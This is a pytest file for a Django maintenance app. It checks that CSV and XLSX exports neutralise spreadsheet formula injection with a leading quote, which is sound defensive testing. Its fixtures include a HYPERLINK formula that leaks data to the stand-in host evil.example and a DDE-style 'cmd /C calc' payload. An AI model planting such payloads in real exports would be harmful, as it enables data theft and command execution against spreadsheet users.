"""Every CSV and XLSX export writes formula-like text as text; numbers stay numbers.

A customer viewer may title a request `=HYPERLINK(...)`; a planner opening the export in a
spreadsheet must see that text, not a live link (OWASP "CSV injection").
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.core.management import CommandError, call_command
from django.urls import reverse
from import_export.admin import ExportMixin

from assets.models import Asset, Part
from cmms.spreadsheets import SpreadsheetExportMixin, SpreadsheetResource, neutralise_formula
from tests.factories import AssetFactory, PartFactory, WorkOrderFactory
from tests.world import Plant
from workorders.models import WorkOrder

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def poisoned_work_order(plant):
    WorkOrderFactory(site=plant.site, asset=plant.pump, title=HYPERLINK, priority=2)
    return (
        "title",
        "'" + HYPERLINK,
        {"title": "'" + HYPERLINK, "asset": plant.pump.tag},
        {"priority": (2, "2")},
    )


def poisoned_asset(plant):
    AssetFactory(
        site=plant.site,
        tag="T-1",
        name="@SUM(1+1)*cmd|' /C calc'!A0",
        manufacturer="+1+2",
        model="-2+3",
        serial_number="\t=1+1",
    )
    return (
        "tag",
        "T-1",
        {
            "name": "'@SUM(1+1)*cmd|' /C calc'!A0",
            "manufacturer": "'+1+2",
            "model": "'-2+3",
            "serial_number": "'\t=1+1",
        },
        {},
    )


def poisoned_part(plant):
    PartFactory(sku="SKU-EVIL", name="=1+1", unit="@pcs", unit_cost=Decimal("-3"))
    return (
        "sku",
        "SKU-EVIL",
        {"name": "'=1+1", "unit": "'@pcs"},
        {"unit_cost": (-3, "-3.00")},
    )


# One poisoned row per exported model: (key column, key, text cells, numbers as (xlsx, csv)).
POISONED_ROWS = {WorkOrder: poisoned_work_order, Asset: poisoned_asset, Part: poisoned_part}


def exporting_admins():
    return [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]


def export(client, model, fmt: str):
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    form = client.get(url).context["form"]
    formats = {label: value for value, label in form.fields["format"].choices}
    data = {"format": formats[fmt], "resource": 0}
    data.update({name: "on" for name in form.fields if "resource_" in name})
    response = client.post(url, data)
    assert response.status_code == 200
    return response.content


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, *rows = sheet.iter_rows()
    names = [cell.value for cell in header]
    return [dict(zip(names, row, strict=True)) for row in rows]


def test_every_admin_that_exports_neutralises_and_has_a_poisoned_row_below():
    admins = exporting_admins()
    assert {model_admin.model for model_admin in admins} >= {WorkOrder, Asset, Part}
    for model_admin in admins:
        assert isinstance(model_admin, SpreadsheetExportMixin), model_admin
        for resource_class in model_admin.get_export_resource_classes(None):
            assert issubclass(resource_class, SpreadsheetResource), resource_class
        assert model_admin.model in POISONED_ROWS, f"add a poisoned row for {model_admin.model}"


@pytest.mark.parametrize("model", POISONED_ROWS, ids=lambda model: model.__name__)
def test_a_csv_export_writes_formula_like_text_with_a_leading_quote(client, model):
    plant = Plant("csv")
    key_column, key, texts, numbers = POISONED_ROWS[model](plant)
    client.force_login(plant.planner)

    rows = csv_rows(export(client, model, "csv"))

    [row] = [row for row in rows if row[key_column] == key]
    for column, expected in texts.items():
        assert row[column] == expected, column
    for column, (_, as_text) in numbers.items():
        assert row[column] == as_text, column


@pytest.mark.parametrize("model", POISONED_ROWS, ids=lambda model: model.__name__)
def test_an_xlsx_export_writes_user_text_as_text_cells_and_numbers_as_numbers(client, model):
    plant = Plant("xls")
    key_column, key, texts, numbers = POISONED_ROWS[model](plant)
    client.force_login(plant.planner)

    rows = xlsx_rows(export(client, model, "xlsx"))

    [row] = [row for row in rows if row[key_column].value == key]
    for column, expected in texts.items():
        assert (row[column].value, row[column].data_type) == (expected, "s"), column
    for column, (as_number, _) in numbers.items():
        assert (row[column].value, row[column].data_type) == (as_number, "n"), column
    assert all(cell.data_type != "f" for cells in rows for cell in cells.values())


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Pump 1 = ok", "Pump 1 = ok"),
        ("", ""),
        (-3, -3),
        (Decimal("-3.5"), Decimal("-3.5")),
        (None, None),
    ],
)
def test_only_text_that_starts_like_a_formula_is_neutralised(value, shown):
    assert neutralise_formula(value) == shown


def test_the_export_command_neutralises_a_model_it_exports_by_label():
    PartFactory(sku="=SKU", name="-1+1", unit_cost=Decimal("-3"))
    out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")

    call_command("export", "CSV", "assets.Part", stdout=out)

    out.flush()
    [row] = csv_rows(out.buffer.getvalue())
    assert (row["sku"], row["name"], row["unit_cost"]) == ("'=SKU", "'-1+1", "-3.00")


def test_the_export_command_refuses_a_resource_that_does_not_neutralise():
    with pytest.raises(CommandError, match="not a SpreadsheetResource"):
        call_command("export", "CSV", "import_export.resources.ModelResource")
